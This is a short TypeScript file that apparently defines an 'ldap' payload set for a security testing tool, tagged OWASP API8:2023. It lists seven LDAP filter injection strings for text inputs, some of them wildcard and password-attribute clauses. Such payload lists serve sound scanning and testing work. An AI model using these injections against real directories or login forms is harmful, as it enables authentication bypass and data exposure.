import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'ldap',
  title: 'filters of a directory in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text'],
  values: [
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(objectClass=*',
    'x)(|(password=*))',
    '*)(&(uid=#',
    'admin)(!(&(1=0',
    '*))%00',
  ],
})
